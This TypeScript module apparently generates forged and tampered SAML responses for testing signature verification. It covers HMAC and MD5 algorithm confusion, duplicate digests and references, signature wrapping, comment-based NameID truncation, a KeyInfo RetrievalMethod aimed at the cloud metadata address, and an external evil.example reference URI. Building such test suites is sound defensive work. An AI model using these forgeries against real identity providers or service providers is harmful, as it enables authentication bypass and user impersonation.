import { createHash, createHmac, createSign, type BinaryLike, type KeyLike } from 'node:crypto';

import type { SignedXml } from 'xml-crypto';

import { NS } from '../../xml/namespaces.ts';
import type { AttackContext } from './attack-context.ts';
import { ATTACKER, GENUINE_NAME_ID, replaceOnce } from './attack-context.ts';

/* Signatures that are forged, weak, ambiguous, or about something else. */

const HMAC_SHA1 = 'http://www.w3.org/2000/09/xmldsig#hmac-sha1';
const HMAC_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256';
const RSA_MD5 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-md5';
const MD5 = 'http://www.w3.org/2001/04/xmldsig-more#md5';
const ECDSA_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256';

type Signer = (signedInfo: BinaryLike, key: KeyLike) => string;

/** The genuine answer, its Assertion signed by an adjusted signer. */
function signedBy(adjust: (signer: SignedXml, context: AttackContext) => void) {
  return (context: AttackContext): string => {
    const { idp, answer } = context;
    return idp.respondXml({
      ...answer,
      signature: { ...answer.signature, adjust: (signer) => adjust(signer, context) },
    });
  };
}

/** Signs with an algorithm of our own making. */
function signedWith(algorithm: string, sign: Signer) {
  return signedBy((signer) => {
    signer.signatureAlgorithm = algorithm;
    signer.SignatureAlgorithms[algorithm] = class {
      getSignature = (signedInfo: BinaryLike, key: KeyLike) => sign(signedInfo, key);
      verifySignature = () => true;
      getAlgorithmName = () => algorithm;
    };
  });
}

const hmac =
  (hash: string, key: (context: AttackContext) => string) =>
  (context: AttackContext): string =>
    signedWith(hash === 'sha1' ? HMAC_SHA1 : HMAC_SHA256, (signedInfo) =>
      createHmac(hash, key(context)).update(signedInfo).digest('base64'),
    )(context);

/** Puts something into KeyInfo instead of the certificate. */
const keyInfo = (content: (prefix: string) => string) =>
  signedBy((signer) => {
    signer.getKeyInfoContent = ({ prefix }) => content(prefix === undefined || prefix === null ? '' : `${prefix}:`);
  });

/** A second Reference, signed like the first. */
const secondReference = signedBy((signer) => {
  signer.addReference({
    xpath: '/*',
    transforms: [NS.exclusiveC14n],
    digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
  });
});

/** Signs "the whole document" instead of naming an element. */
const emptyUri = signedBy((signer) => {
  for (const reference of signer.getReferences()) reference.isEmptyUri = true;
});

/** Lets the signature cover another element, which is given an ID. */
function covering(xpath: string, mark?: { readonly find: string; readonly put: string }) {
  return (context: AttackContext): string => {
    const { idp, answer } = context;
    const assertion = mark === undefined ? undefined : (xml: string) => replaceOnce(xml, mark.find, mark.put);
    return idp.respondXml({
      ...answer,
      mutate: { ...answer.mutate, ...(assertion === undefined ? {} : { assertion }) },
      signature: {
        adjust: (signer) => {
          for (const reference of signer.getReferences()) Object.assign(reference, { xpath });
        },
      },
    });
  };
}

/** The genuine answer with its text changed after signing. */
const changed = (change: (xml: string, context: AttackContext) => string) => (context: AttackContext) =>
  change(context.idp.respondXml(context.answer), context);

const part = (xml: string, name: string) => {
  const match = new RegExp(`<ds:${name}[ >][\\s\\S]*</ds:${name}>`).exec(xml);
  if (match === null) throw new Error(`The document does not hold ${name}`);
  return match[0];
};
const digestOf = (text: string) => createHash('sha256').update(text).digest('base64');
const forgedDigest = digestOf('something else');

export const signature = {
  ownKeyValue: (context: AttackContext) => {
    const value =
      '<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>AQAB</ds:Modulus><ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>';
    return keyInfo(() => value)({ ...context, answer: { ...context.answer, signature: { key: ATTACKER } } });
  },
  retrievalMethod: keyInfo((prefix) => `<${prefix}RetrievalMethod URI="http://169.254.169.254/latest"/>`),
  hmacSha1: hmac('sha1', ({ idp }) => idp.key.certificate),
  hmacSha256: hmac('sha256', ({ idp }) => idp.key.certificate),
  hmacEmptyKey: hmac('sha1', () => ''),
  rsaMd5: signedWith(RSA_MD5, (signedInfo, key) => createSign('RSA-MD5').update(signedInfo).sign(key, 'base64')),
  ecdsa: signedWith(ECDSA_SHA256, (signedInfo, key) =>
    createSign('SHA256')
      .update(signedInfo)
      .sign({ key, dsaEncoding: 'ieee-p1363' } as never, 'base64'),
  ),
  md5Digest: signedBy((signer) => {
    signer.HashAlgorithms[MD5] = class {
      getHash = (xml: string) => createHash('md5').update(xml).digest('base64');
      getAlgorithmName = () => MD5;
    };
    for (const reference of signer.getReferences()) reference.digestAlgorithm = MD5;
  }),
  flippedBit: changed((xml) => {
    const value = /<ds:SignatureValue>([^<]*)</.exec(xml)?.[1] ?? '';
    const bytes = Buffer.from(value, 'base64');
    bytes.writeUInt8(bytes.readUInt8(17) ^ 1, 17);
    return replaceOnce(xml, value, bytes.toString('base64'));
  }),
  emptyDigest: changed((xml) => xml.replace(/<ds:DigestValue>[^<]*</, '<ds:DigestValue><')),
  twoDigests: changed((xml) =>
    xml.replace('<ds:DigestValue>', `<ds:DigestValue>${forgedDigest}</ds:DigestValue><ds:DigestValue>`),
  ),
  commentAfterForgedDigest: changed((xml) =>
    xml.replace(/<ds:DigestValue>([^<]*)</, `<ds:DigestValue>${forgedDigest}<!--$1--><`),
  ),
  commentBeforeForgedDigest: changed((xml) =>
    xml.replace(/<ds:DigestValue>([^<]*)</, `<ds:DigestValue><!--$1-->${forgedDigest}<`),
  ),
  noSignatureMethod: changed((xml) => xml.replace(/<ds:SignatureMethod[^>]*\/>/, '')),
  emptySignatureValue: changed((xml) => xml.replace(/<ds:SignatureValue>[^<]*</, '<ds:SignatureValue><')),
  secondSignedInfo: changed((xml) => {
    const signedInfo = part(xml, 'SignedInfo');
    const forged = signedInfo.replace(/<ds:DigestValue>[^<]*</, `<ds:DigestValue>${forgedDigest}<`);
    return replaceOnce(xml, signedInfo, forged + signedInfo);
  }),
  signedInfoInObject: changed((xml) => {
    const forged = part(xml, 'SignedInfo').replace(/<ds:DigestValue>[^<]*</, `<ds:DigestValue>${forgedDigest}<`);
    return replaceOnce(xml, '<ds:SignedInfo>', `<ds:Object>${forged}</ds:Object><ds:SignedInfo>`);
  }),
  secondReference,
  unsignedReference: changed((xml) => {
    const reference = part(xml, 'Reference');
    return replaceOnce(
      xml,
      reference,
      `<ds:Reference URI="#_evil"><ds:DigestValue>${forgedDigest}</ds:DigestValue></ds:Reference>${reference}`,
    );
  }),
  secondSignatureMethod: changed((xml) =>
    replaceOnce(xml, '<ds:SignedInfo>', `<ds:SignatureMethod Algorithm="${HMAC_SHA1}"/><ds:SignedInfo>`),
  ),
  emptyUri,
  noUri: changed((xml) => xml.replace(/(<ds:Reference) URI="[^"]*"/, '$1')),
  bareIdUri: changed((xml) => replaceOnce(xml, 'URI="#_assertion"', 'URI="_assertion"')),
  xpointerUri: changed((xml) => replaceOnce(xml, 'URI="#_assertion"', `URI="#xpointer(id('_assertion'))"`)),
  quotedUri: changed((xml) => replaceOnce(xml, 'URI="#_assertion"', `URI="#_assertion' or '1'='1"`)),
  externalUri: changed((xml) => replaceOnce(xml, 'URI="#_assertion"', 'URI="http://evil.example/signed.xml"')),
  coversSubjectOnly: covering("//*[local-name()='Subject']", {
    find: '<saml:Subject>',
    put: '<saml:Subject ID="_subject">',
  }),
  responseSignatureForAssertion: (context: AttackContext) => {
    const xml = context.idp.respondXml({ ...context.answer, sign: 'response' });
    return replaceOnce(xml, 'URI="#_response"', 'URI="#_assertion"');
  },
  assertionSignatureForResponse: changed((xml) => replaceOnce(xml, 'URI="#_assertion"', 'URI="#_response"')),
  inclusiveTransform: changed((xml) =>
    xml.replace(
      /(<ds:Transform Algorithm="http:\/\/www\.w3\.org\/2001\/10\/xml-exc-c14n#")\/>/,
      `$1/><ds:Transform Algorithm="${NS.exclusiveC14n}"/>`,
    ),
  ),
  attackerSignsResponse: (context: AttackContext) => {
    const { idp, answer } = context;
    const genuine = idp.respondXml({ ...answer, sign: 'assertion' });
    const forged = idp.respondXml({ ...answer, sign: 'both', signature: { key: ATTACKER } });
    const assertion = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;
    return forged.replace(assertion, () => assertion.exec(genuine)?.[0] ?? '');
  },
  withCommentsTruncation: (context: AttackContext) => {
    const { idp, answer } = context;
    const comment = (xml: string) => replaceOnce(xml, GENUINE_NAME_ID, `${GENUINE_NAME_ID}<!---->.evil.example`);
    const withComments = `${NS.exclusiveC14n}WithComments`;
    return idp.respondXml({
      ...answer,
      mutate: { assertion: comment },
      signature: {
        canonicalization: withComments,
        transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', withComments],
      },
    });
  },
};
